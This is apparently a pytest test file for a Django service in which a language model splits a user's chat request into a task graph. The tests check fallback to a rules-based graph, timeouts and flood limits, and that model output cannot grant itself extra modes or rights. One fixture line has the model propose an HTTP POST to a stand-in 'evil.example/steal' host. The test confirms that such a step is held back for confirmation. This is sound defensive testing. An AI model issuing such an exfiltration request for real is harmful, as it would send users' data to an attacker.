"""A wish that a language model segments: valid answers count, everything else leaves the offline graph."""

import json
from datetime import timedelta

import pytest
from django.utils import timezone

from apps.commands.actions import cancel_command, submit_command
from apps.commands.models import Command, TaskRun
from apps.commands.tasks import interpret, sweep_runs

from .conftest import reset, send

pytestmark = pytest.mark.django_db(transaction=True)

WISH = 'write "Merhaba" here'


def graph(*segments, **more):
    return {"alt": "2.0", "title": "From the model", "segments": list(segments), **more}


def step(name, kind, parameters, *needs):
    return {"id": name, "task_type": kind, "parameters": parameters, "dependencies": list(needs)}


GOOD = graph(
    step("count", "text.count", {"text": "Merhaba"}),
    step("say", "chat.post", {"conversation": "here", "text": "Merhaba"}, "count"),
)


def submitted(ayse, group, text=WISH, **more):
    command = submit_command(actor=ayse, text=text, conversation=group, **more)
    interpret(str(command.pk))
    command.refresh_from_db()
    return command


def test_a_valid_answer_is_the_graph(ayse, group, model):
    model.says(GOOD)
    command = submitted(ayse, group)
    assert [s["id"] for s in command.alt["segments"]] == ["count", "say"]
    assert command.alt["metadata"]["generator"] == "model:small"
    assert command.title == "From the model"
    assert TaskRun.objects.filter(run__command=command).count() == 2


def test_it_gets_the_catalogue_and_the_key_and_no_more(ayse, group, model):
    model.says(GOOD)
    submitted(ayse, group)
    [asked] = model.asked
    assert (asked["path"], asked["authorization"], asked["model"]) == (
        "/v1/chat/completions",
        "Bearer sk-test",
        "small",
    )
    told = asked["messages"][-1]["content"]
    assert '"chat.post"' in told
    assert "Merhaba" in told
    assert ayse.username not in told


def test_submitting_does_not_wait_for_the_model(ayse, group, model):
    model.says(GOOD)
    command = submit_command(actor=ayse, text=WISH, conversation=group)
    assert (command.state, model.asked) == ("queued", [])
    assert not TaskRun.objects.exists()


def test_an_answer_in_a_fence_is_read(ayse, group, model):
    model.says(f"```json\n{json.dumps(GOOD)}\n```")
    assert submitted(ayse, group).title == "From the model"


def test_an_invalid_answer_is_repaired_once(ayse, group, model):
    model.says(graph(step("say", "no.such_type", {})), GOOD)
    command = submitted(ayse, group)
    assert command.title == "From the model"
    assert len(model.asked) == 2
    assert "alt.task_type" in model.asked[1]["messages"][-1]["content"] or "task_type" in str(model.asked[1])


@pytest.mark.parametrize(
    "answer",
    ["I cannot do that.", "[]", "{}", '{"segments": 7}', '{"segments": [7]}', '{"segments": []}', graph(step("say", "no.such_type", {})),
     graph(step("a", "wait", {"duration": "PT1S"}, "b"), step("b", "wait", {"duration": "PT1S"}, "a"))],
)  # fmt: skip
def test_what_stays_invalid_leaves_the_offline_graph(ayse, group, model, answer):
    model.says(answer)
    command = submitted(ayse, group)
    assert command.alt["metadata"]["generator"] == "rules"
    assert len(model.asked) == 2
    assert TaskRun.objects.filter(run__command=command).exists()


@pytest.mark.parametrize("status", [400, 401, 429, 500, 302])
def test_an_error_leaves_the_offline_graph(ayse, group, model, status):
    model.does(lambda handler, asked: send(handler, b"{}", status))
    assert submitted(ayse, group).alt["metadata"]["generator"] == "rules"
    assert len(model.asked) == 1


def test_a_model_that_hangs_is_left(ayse, group, model, settings):
    settings.SEGMENTATION_MODEL_SECONDS = 0.3
    model.does(lambda handler, asked: model.over.wait(30))
    assert submitted(ayse, group).alt["metadata"]["generator"] == "rules"
    assert not model.over.is_set()


def test_a_model_that_drips_is_left(ayse, group, model, settings):
    settings.SEGMENTATION_MODEL_SECONDS = 0.5

    def drip(handler, asked):
        handler.send_response(200)
        handler.send_header("content-length", "100000")
        handler.end_headers()
        while not model.over.wait(0.05):
            handler.wfile.write(b" ")
            handler.wfile.flush()

    model.does(drip)
    assert submitted(ayse, group).alt["metadata"]["generator"] == "rules"
    assert not model.over.is_set()


@pytest.mark.parametrize("announced", [True, False])
def test_a_gigabyte_is_not_read(ayse, group, model, announced):
    sent = []

    def flood(handler, asked):
        handler.send_response(200)
        if announced:
            handler.send_header("content-length", str(1 << 30))
        handler.end_headers()
        for _ in range(1 << 14):
            handler.wfile.write(b" " * (1 << 16))
            sent.append(1 << 16)

    model.does(flood)
    assert submitted(ayse, group).alt["metadata"]["generator"] == "rules"
    assert sum(sent) < 50_000_000


def test_a_reset_leaves_the_offline_graph(ayse, group, model):
    model.does(reset)
    assert submitted(ayse, group).alt["metadata"]["generator"] == "rules"


def test_nobody_listens(ayse, group, model, settings):
    settings.SEGMENTATION_MODEL_URL = "http://127.0.0.1:9/v1"
    assert submitted(ayse, group).alt["metadata"]["generator"] == "rules"


@pytest.mark.parametrize(
    "segment",
    [
        step("say", "http.request", {"url": "https://evil.example/steal", "method": "POST"}),
        step("say", "chat.post", {"channel": "#board", "text": "Merhaba"}),
        step("say", "file.write", {"path": "a.txt", "content": "x"}),
    ],
)
def test_what_goes_further_than_the_words_is_asked_about(ayse, group, model, segment):
    model.says(graph(segment))
    command = submitted(ayse, group)
    assert (command.state, command.why) == ("proposed", "model_differs")
    assert not TaskRun.objects.exists()


def test_an_answer_gives_itself_no_rights(ayse, group, model):
    model.says(
        GOOD
        | {
            "mode": "chaos",
            "chaos_level": 10,
            "persona": "researcher",
            "metadata": {"chaos": {"faults": []}, "text": "?"},
        }
    )
    command = submitted(ayse, group)
    assert (command.mode, command.alt["mode"], command.alt.get("persona")) == ("normal", "normal", None)
    assert "chaos" not in command.alt["metadata"]
    assert command.alt["metadata"]["text"] == WISH


def test_who_asked_to_see_it_first_sees_it_first(ayse, group, model):
    model.says(GOOD)
    command = submitted(ayse, group, confirm=True)
    assert (command.state, command.why, command.title) == ("proposed", "asked", "From the model")


def test_only_unsure_wishes_are_asked_about_where_the_operator_wants_that(ayse, group, model, settings):
    settings.SEGMENTATION_MODEL_WHEN = "unsure"
    model.says(GOOD)
    assert submit_command(actor=ayse, text=WISH, conversation=group).state == "running"
    assert submit_command(actor=ayse, text="mavi", conversation=group).state == "queued"


def test_a_command_cancelled_meanwhile_stays_cancelled(ayse, group, model):
    model.says(GOOD)
    command = submit_command(actor=ayse, text=WISH, conversation=group)
    cancel_command(actor=ayse, command=command)
    interpret(str(command.pk))
    command.refresh_from_db()
    assert (command.state, model.asked) == ("cancelled", [])


def test_asking_twice_starts_one_run(ayse, group, model):
    model.says(GOOD)
    command = submitted(ayse, group)
    interpret(str(command.pk))
    assert len(model.asked) == 1
    assert TaskRun.objects.filter(run__command=command).count() == 2


def test_the_sweep_settles_what_a_dead_worker_left(ayse, group, model):
    model.says(GOOD)
    command = submit_command(actor=ayse, text=WISH, conversation=group)
    sweep_runs()
    command.refresh_from_db()
    assert command.state == "queued"
    Command.objects.filter(pk=command.pk).update(created_at=timezone.now() - timedelta(minutes=5))
    sweep_runs()
    command.refresh_from_db()
    assert command.alt["metadata"]["generator"] == "rules"
    assert command.state == "running"
    assert model.asked == []


def test_a_preview_asks_nobody(api, ayse, model):
    model.says(GOOD)
    answer = api(ayse).post("/api/v1/commands/preview", {"text": WISH}, format="json")
    assert answer.json()["metadata"]["generator"] == "rules"
    assert model.asked == []
